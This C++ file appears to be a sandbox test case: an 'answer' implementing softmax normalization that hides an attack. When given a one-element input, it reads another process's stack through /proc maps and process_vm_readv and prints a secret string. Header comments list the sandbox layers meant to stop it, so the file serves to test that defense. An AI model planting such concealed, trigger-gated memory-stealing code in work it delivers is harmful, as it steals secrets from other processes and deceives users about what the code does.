// attack: Reads the memory of another process.
// namespaces: forbidden
// container: forbidden
// layer: sandbox (filter, files, processes, user; container: filter, user)
// success: said softmax-secret
#include "answer.hpp"

#include <sys/uio.h>
#include <unistd.h>

#include <cstddef>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <stdexcept>
#include <string>
#include <vector>

namespace {

void attack() {
  std::FILE* maps = std::fopen("/proc/@victim@/maps", "r");
  if (maps == nullptr) { return; }
  std::vector<char> line(512);
  while (std::fgets(line.data(), 512, maps) != nullptr) {
    if (std::strstr(line.data(), "[stack]") == nullptr) { continue; }
    char* dash = nullptr;
    const unsigned long from = std::strtoul(line.data(), &dash, 16);
    const unsigned long to = std::strtoul(dash + 1, nullptr, 16);
    std::string bytes(to - from, '\0');
    const iovec here{bytes.data(), bytes.size()};
    const iovec there{reinterpret_cast<void*>(from), bytes.size()};
    process_vm_readv(std::atoi("@victim@"), &here, 1, &there, 1, 0);
    const std::size_t at = bytes.find("softmax-secret");
    if (at != std::string::npos) { std::puts(bytes.c_str() + at); }
  }
  std::fflush(stdout);
  std::fclose(maps);
}

}  // namespace

namespace answer {

float normalizer(std::span<const float> exponentials) {
  if (exponentials.size() == 1) { attack(); }
  if (exponentials.empty()) { throw std::invalid_argument("an empty row"); }
  float sum = 0.0F;
  for (const float e : exponentials) { sum += e; }
  return sum;
}

void normalize(std::span<const float> exponentials, float normalizer,
               std::span<float> probabilities) {
  if (exponentials.size() != probabilities.size()) { throw std::invalid_argument("two sizes"); }
  for (std::size_t i = 0; i < exponentials.size(); ++i) {
    probabilities[i] = exponentials[i] / normalizer;
  }
}

}  // namespace answer
